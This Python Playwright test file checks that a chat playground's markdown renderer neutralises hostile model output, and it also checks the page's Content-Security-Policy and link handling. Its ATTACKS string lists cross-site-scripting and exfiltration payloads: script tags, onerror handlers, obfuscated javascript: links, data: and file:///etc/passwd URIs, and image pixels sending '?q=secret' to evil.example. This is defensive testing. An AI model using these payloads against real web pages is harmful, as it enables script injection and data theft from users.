"""Can what a model writes make the page do anything but show text?"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

pytest.importorskip("playwright")

from playwright.sync_api import expect

from tests.browser.wire import DONE, Wire, content, finish, reasoning

if TYPE_CHECKING:
    from playwright.sync_api import Page, Route

    from playground.testing import ServerProcess
    from tests.browser.chat import Chat

pytestmark = pytest.mark.browser

SAFE = (
    "A [safe link](https://example.org/a?b=c), <https://example.net>, [mail](mailto:a@example.org)."
)
ATTACKS = """
<script>window.museHit = 1</script> <img src=x onerror="window.museHit = 2">
<img src="https://evil.example/pixel.png"> <iframe src="https://evil.example/"></iframe>
<svg onload="window.museHit = 3"><use href="data:image/svg+xml,<svg/>"/></svg>
<style>body { display: none; background: url(https://evil.example/style) }</style>
<link rel="stylesheet" href="https://evil.example/x.css"> <base href="https://evil.example/">
<form action="/api/cancel"><button>x</button></form> <a href="javascript:window.museHit=4">a</a>
<math><mtext><a href="javascript:window.museHit=5">m</a></mtext></math> <details open ontoggle=x>

[1](javascript:window.museHit=6) [2](JaVaScRiPt:window.museHit=6) [3]( javascript:window.museHit=6)
[4](java&#x09;script:window.museHit=6) [5](java&#10;script:window.museHit=6) [6](vbscript:x)
[7](data:text/html,<script>window.museHit=7</script>) [8](file:///etc/passwd) [9](/api/cancel)
[10](//evil.example/x) [11](blob:https://evil.example/1) [12](\x01javascript:window.museHit=8)
<javascript:window.museHit=9> [13][reference] [14](https://user@evil.example/)

![pixel](https://evil.example/pixel.png?q=secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=)
![by reference][picture] [![in a link](https://evil.example/in.png)](https://evil.example/)
$\\href{javascript:window.museHit=10}{x}$ $\\includegraphics{https://evil.example/tex.png}$
$\\htmlStyle{background:url(https://evil.example/katex)}{x}$ $\\unknown<img src=x onerror=alert(1)>$

```html
<script>window.museHit = 11</script>
```

[reference]: javascript:window.museHit=12
[picture]: https://evil.example/reference.png
"""


@pytest.mark.parametrize("streamed", ["whole", "by the character"])
def test_no_text_runs_loads_or_leads_anywhere(
    stage: ServerProcess, chat: Chat, page: Page, streamed: str
) -> None:
    """In answers, reasoning and questions; whole, and half-open as it comes."""
    wire = Wire(page)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    chat.open(stage.url)
    chat.say(ATTACKS)
    if streamed == "whole":
        wire.write(1, reasoning(ATTACKS), content(ATTACKS + SAFE))
    else:
        wire.asked(1)
        page.evaluate(
            "async (texts) => { for (const text of texts) {"
            " window.museTurns[0].write(text); await new Promise(requestAnimationFrame); } }",
            [content((ATTACKS + SAFE)[at : at + 9]) for at in range(0, len(ATTACKS + SAFE), 9)],
        )
    wire.write(1, finish(), DONE)
    chat.is_in(1, "complete")
    if streamed == "whole":
        chat.thinking(1).click()

    assert page.evaluate("window.museHit") is None
    made = "script, iframe, object, embed, base, form, link, style, svg use, img, details, math a"
    assert chat.log.locator(made).count() == 0
    links: list[list[str]] = chat.log.locator("a").evaluate_all(
        "links => links.map((link) => [link.getAttribute('href'), link.target, link.rel])"
    )
    allowed = ("https://", "mailto:")
    assert [link for link in links if not link[0].startswith(allowed)] == []
    assert {(target, rel) for _, target, rel in links} == {("_blank", "noopener noreferrer")}
    assert not any("evil.example" in url for url in requests)
    assert page.url == f"{stage.url}/"
    for name in ("safe link", "https://example.net", "mail"):
        expect(chat.answer(1).locator("> .markdown").get_by_role("link", name=name)).to_have_count(
            1
        )


def test_the_policy_allows_the_page_itself_and_nothing_inline(
    stage: ServerProcess, chat: Chat, page: Page
) -> None:
    """It comes with the page, and the page needs no exception from it."""
    response = page.goto(stage.url)
    assert response is not None
    policy = response.headers["content-security-policy"]
    chat.is_connected("ready")
    chat.ask("Set a table")

    assert "unsafe" not in policy
    for rule in ("default-src 'self'", "script-src 'self'", "object-src 'none'"):
        assert rule in policy
    assert page.locator("[onclick], [onload], [onerror], script:not([src])").count() == 0


def test_a_link_shows_where_it_leads_and_does_not_give_the_page_away(
    stage: ServerProcess, chat: Chat, page: Page
) -> None:
    """It opens in a tab of its own, which cannot reach back or see where it comes from."""
    wire = Wire(page)
    asked: list[dict[str, str]] = []

    def answer(route: Route) -> None:
        asked.append(route.request.headers)
        route.fulfill(body="<title>There</title>", content_type="text/html")

    page.context.route(f"{stage.url}/elsewhere", answer)
    chat.open(stage.url)
    chat.say("Hello")
    wire.write(1, content(f"[There]({stage.url}/elsewhere)"), finish(), DONE)
    chat.is_in(1, "complete")
    with page.expect_popup() as opened:
        chat.log.get_by_role("link", name="There").click()

    expect(opened.value).to_have_title("There")
    assert opened.value.evaluate("window.opener") is None
    assert "referer" not in asked[0]
